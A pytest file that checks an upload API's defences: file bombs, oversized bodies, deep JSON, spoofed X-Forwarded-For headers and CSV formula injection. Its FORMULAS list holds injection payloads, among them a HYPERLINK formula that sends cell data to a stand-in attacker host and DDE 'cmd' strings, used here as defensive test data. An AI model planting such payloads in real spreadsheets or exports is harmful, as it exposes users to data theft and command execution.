"""Hostile uploads and headers against the real services (issue 19, items 4 to 7):
bombs refused within stated limits with the API process's peak RSS under 400 MB, a
too-long CSV field and a deeply nested JSONL line as 422s, formulas neutralised in CSV
exports, and X-Forwarded-For believed from configured proxies only."""

from __future__ import annotations

import csv
import io
import json
import time
import uuid
from functools import cache
from pathlib import Path
from typing import Any

import httpx
import psycopg
import pytest
import redis
from openpyxl import load_workbook

from batch.limits import CSV_MAX_FIELD_CHARS
from tests.batch import bombs, served
from tests.batch.conftest import BatchStack

pytestmark = pytest.mark.services

#: The API process's peak RSS allowed while it refuses the bombs (issue 19).
PEAK_RSS_LIMIT_KIB = 400 * 1024


@cache
def _whitespace_bomb() -> bytes:
    return bombs.whitespace_bomb()


def _post_file(url: str, key: str, name: str, data: bytes) -> httpx.Response:
    return httpx.post(f"{url}/v1/batches", headers={"x-api-key": key},
                      params={"validate_only": "true"},
                      files={"file": (name, data, "application/octet-stream")}, timeout=120)


def _error(response: httpx.Response) -> dict[str, Any]:
    body: dict[str, Any] = response.json()["error"]
    assert body["message_vi"] and body["message_en"]
    return body


def test_bombs_and_oversized_bodies_are_refused_and_the_api_stays_small(
        batch_stack: BatchStack, tmp_path: Path) -> None:
    """Peak RSS is the API process's VmHWM (/proc/<pid>/status) after every refusal."""
    key = batch_stack.account()
    whitespace, wide = _whitespace_bomb(), bombs.wide_bomb()
    with served.served(tmp_path, served.PORTS[0]) as api:
        started = api.status("VmHWM")
        began = time.monotonic()
        refused = _post_file(api.url, key, "bomb.xlsx", whitespace)
        assert refused.status_code == 422, refused.text
        assert _error(refused)["code"] == "xlsx_too_large"
        refused = _post_file(api.url, key, "wide.xlsx", wide)
        assert refused.status_code == 422, refused.text
        error = _error(refused)
        assert error["code"] == "xlsx_too_many_columns"
        assert "256" in error["message_en"] and "256" in error["message_vi"]
        assert len(refused.content) < 2000  # not 37 MB of ignored_column notes
        health = httpx.get(f"{api.url}/healthz", timeout=5)
        assert health.status_code == 200
        # a body over the route's limit: refused from its Content-Length, never read
        too_big = batch_stack.settings.batch_max_upload_bytes + 1024 * 1024
        refused = _post_file(api.url, key, "big.csv", b"a" * too_big)
        assert refused.status_code == 413, refused.text
        assert _error(refused)["code"] == "body_too_large"
        refused = httpx.post(f"{api.url}/v1/search", content=b'{"id_number": "' +
                             b"1" * 100_000 + b'"}', headers={"content-type": "application/json"})
        assert refused.status_code == 413
        elapsed = time.monotonic() - began
        peak = api.status("VmHWM")
    print(f"API peak RSS {started / 1024:.0f} MiB at start, {peak / 1024:.0f} MiB after the "
          f"bombs ({elapsed:.1f} s)")
    assert peak < PEAK_RSS_LIMIT_KIB


def test_a_too_long_csv_field_and_a_too_deep_jsonl_line_are_422_not_500(
        batch_stack: BatchStack) -> None:
    client = batch_stack.client
    key = batch_stack.account()
    long_field = ("Số CCCD/CMND\n001085012345\n" + "9" * (CSV_MAX_FIELD_CHARS + 1)).encode()
    response = client.post("/v1/batches", headers={"x-api-key": key},
                           files={"file": ("lo.csv", long_field, "text/csv")})
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "csv_field_too_large"
    assert "row 3" in error["message_en"] and "dòng 3" in error["message_vi"]
    deep = "[" * 5000 + "]" * 5000
    lines = f'{{"so_giay_to": "001085012345"}}\n{{"so_giay_to": {deep}}}\n'.encode()
    response = client.post("/v1/batches", headers={"x-api-key": key},
                           files={"file": ("lo.jsonl", lines, "application/x-ndjson")})
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "json_too_deep"
    assert "Line 2" in error["message_en"] and "Dòng 2" in error["message_vi"]


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0",
            "+84912345678", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _formula_file() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Họ và tên", "Số CCCD/CMND"])
    for formula in FORMULAS:
        writer.writerow([formula, formula])
    return out.getvalue().encode()


def _csv_cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
            for cell in line]


def test_formulas_are_neutralised_in_csv_kept_in_jsonl_and_text_in_xlsx(
        batch_stack: BatchStack, fresh_broker: Any) -> None:
    client = batch_stack.client
    key = batch_stack.account()
    headers = {"x-api-key": key}
    response = client.post("/v1/batches", headers=headers,
                           files={"file": ("lo.csv", _formula_file(), "text/csv")})
    assert response.status_code == 202, response.text
    batch_id = response.json()["batch"]["id"]
    results = f"/v1/batches/{batch_id}/results"
    # no worker yet: every row pending, its values echoed
    pending = client.get(results, params={"format": "csv"}, headers=headers).text
    assert "pending" in pending
    cells = _csv_cells(pending)
    assert not [c for c in cells if c.startswith(STARTS)], cells
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    fresh_broker("formulas")
    final = batch_stack.wait_finished(key, batch_id)
    assert final["status"] == "done", final
    done = client.get(results, params={"format": "csv"}, headers=headers).text
    cells = _csv_cells(done)
    assert not [c for c in cells if c.startswith(STARTS)], cells
    assert any(c.startswith("'=cmd|") for c in cells)
    assert any(c.startswith("'+84912345678") for c in cells)
    # JSONL keeps the values as entered
    rows = [json.loads(line) for line in client.get(
        results, params={"format": "jsonl"}, headers=headers).text.splitlines()]
    entered = {c["value"] for row in rows for c in row["criteria"]}
    assert set(FORMULAS) - {"\r=1+1", "\t=1+1"} <= {v.strip() for v in entered} | entered
    # XLSX: typed text, string cells, never a formula
    book = load_workbook(io.BytesIO(client.get(results, params={"format": "xlsx"},
                                               headers=headers).content))
    sheet = book.worksheets[0]
    texts = [c for row in sheet.iter_rows(min_row=2) for c in row
             if isinstance(c.value, str) and c.value.lstrip().startswith(STARTS)]
    assert texts, "the formulas are in the workbook as text"
    assert all(c.data_type == "s" for c in texts)


def _ledger_clients(settings: Any, marker: str) -> list[str]:
    with psycopg.connect(settings.app_dsn) as conn:
        rows = conn.execute("SELECT client FROM usage_ledger WHERE at >= %s::timestamptz",
                            (marker,)).fetchall()
    return [str(r[0]) for r in rows]


def _anonymous_search(url: str, forwarded_for: str) -> None:
    response = httpx.post(f"{url}/v1/search", json={"id_number": "001085012345"},
                          headers={"x-forwarded-for": forwarded_for}, timeout=30)
    assert response.status_code == 200, response.text


def _buckets(settings: Any) -> set[str]:
    client = redis.Redis.from_url(settings.redis_url)
    try:
        return {k.decode().split(":")[2] for k in client.scan_iter("regsearch:ratelimit:*")}
    finally:
        client.close()


def test_a_spoofed_forwarded_for_from_an_untrusted_peer_changes_nothing(
        batch_stack: BatchStack, tmp_path: Path) -> None:
    settings = batch_stack.settings
    forged = f"203.0.113.{uuid.uuid4().int % 250 + 1}"
    with psycopg.connect(settings.app_dsn) as conn:
        row = conn.execute("SELECT now()::text").fetchone()
        assert row is not None
        marker = row[0]
    with served.served(tmp_path, served.PORTS[0]) as api:
        _anonymous_search(api.url, forged)
    assert forged not in _buckets(settings)
    clients = _ledger_clients(settings, marker)
    assert clients == ["127.0.0.1"]
    with served.served(tmp_path, served.PORTS[1],
                       REGSEARCH_TRUSTED_PROXIES='["127.0.0.1"]') as api:
        _anonymous_search(api.url, forged)
    assert forged in _buckets(settings)
    assert _ledger_clients(settings, marker) == ["127.0.0.1", forged]
